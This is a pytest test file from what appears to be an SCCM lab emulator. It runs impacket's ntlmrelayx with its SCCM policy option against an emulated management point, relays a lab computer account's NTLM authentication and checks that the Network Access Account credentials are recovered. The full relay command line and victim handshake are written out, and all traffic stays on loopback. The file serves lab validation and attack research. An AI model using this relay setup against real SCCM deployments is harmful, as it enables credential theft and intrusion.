"""impacket's `ntlmrelayx.py --sccm-policies`, the real tool run unmodified as a subprocess, against
the MP's connection-based Windows authentication (IIS behaviour).

A victim (a lab computer account, pyspnego as a plain NTLM HTTP client) authenticates to ntlmrelayx's
HTTP listener on loopback; ntlmrelayx relays the handshake to `/ccm_system_windowsauth/request`, then sends
its own registration on that authenticated connection without an Authorization header, requests the
policy list and the secret NAA policy, and deobfuscates the Network Access Account. IIS answers the
relayed connection's later requests as the relayed account; the lab must too.
"""

from __future__ import annotations

import base64
import http.client
import json
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import spnego

from cmglab.runtime.lab import Lab
from cmglab.runtime.sockets import free_port_now
from cmglab.tools.processes import LabProcesses
from tests.conftest import lab_client


@pytest.fixture(scope="module")
def mp(lab: Lab, lab_services: LabProcesses) -> Lab:
    lab_services.ensure("management-point")
    return lab


def ntlmrelayx() -> str:
    tool = shutil.which("ntlmrelayx.py", path=str(Path(sys.executable).parent)) or shutil.which("ntlmrelayx.py")
    if tool is None:
        pytest.fail("ntlmrelayx.py (impacket, in the test extra) is not installed")
    return tool


def wait_listening(port: int, proc: subprocess.Popen[bytes], deadline: float) -> None:
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"ntlmrelayx exited with {proc.returncode}")
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    pytest.fail("ntlmrelayx's HTTP listener did not come up")


def victim_authenticates(port: int, user: str, password: str) -> int:
    """A Windows client's NTLM over HTTP to the attacker's server: 401 → negotiate → challenge → authenticate."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", "/")
        first = conn.getresponse()
        first.read()
        assert first.status == 401 and "NTLM" in (first.getheader("WWW-Authenticate") or "")
        ctx = spnego.client(user, password, hostname="attacker", service="HTTP", protocol="ntlm")
        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(ctx.step() or b"").decode()})
        challenge = conn.getresponse()
        challenge.read()
        value = challenge.getheader("WWW-Authenticate") or ""
        assert challenge.status == 401 and value.startswith("NTLM "), (challenge.status, value)
        token = ctx.step(base64.b64decode(value.split(" ", 1)[1])) or b""
        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(token).decode()})
        final = conn.getresponse()
        final.read()
        return final.status
    finally:
        conn.close()


def test_ntlmrelayx_sccm_policies_recovers_the_naa(mp: Lab, tmp_path: Path) -> None:
    computer = next(a for a in mp.config.active_directory.accounts if a.name.endswith("$"))
    http_port = free_port_now()  # ntlmrelayx binds its listener itself
    target = f"http://127.0.0.1:{mp.config.ports.management_point_http}/ccm_system_windowsauth/request"
    out = tmp_path / "ntlmrelayx.out"
    with out.open("wb") as sink:
        proc = subprocess.Popen(
            [ntlmrelayx(), "-t", target, "--sccm-policies", "--sccm-policies-sleep", "0",
             "-ip", "127.0.0.1", "--http-port", str(http_port), "--no-smb-server", "--no-wcf-server",
             "--no-raw-server", "--no-rpc-server", "--no-winrm-server", "--no-mssql-server", "--no-rdp-server"],
            cwd=tmp_path, stdin=subprocess.PIPE, stdout=sink, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        wait_listening(http_port, proc, deadline)
        victim_authenticates(http_port, f"CORP\\{computer.name}", computer.password)
        while time.monotonic() < deadline and proc.poll() is None:
            so_far = out.read_text(errors="replace")
            if "DONE - attack finished" in so_far or "[-]" in so_far:  # finished, or the attack logged an error
                break
            time.sleep(0.2)
    finally:
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
    log = out.read_text(errors="replace")
    assert "DONE - attack finished" in log, log
    naa = mp.config.site.network_access_account
    assert f"Retrieved NAA account credentials: '{naa.username}:{naa.password}'" in log, log
    loot = next(tmp_path.glob("127.0.0.1_*_sccm_policies_loot"))
    policies = json.loads((loot / "policies.json").read_text())
    naa_ids = [pid for pid, p in policies.items() if p["PolicyCategory"] == "NAAConfig"]
    assert naa_ids and "SECRET" in policies[naa_ids[0]]["PolicyFlags"]
    guid = (loot / "device" / "guid.txt").read_text().strip()
    with lab_client(mp) as c:
        row = c.get(f"{mp.url('management-point')}/_lab/clients/GUID:{guid}").json()
    # registered as the relayed computer account, on a request that carried no Authorization header
    assert row["auth_kind"] == "domain" and row["domain_account"] == f"CORP\\{computer.name}"
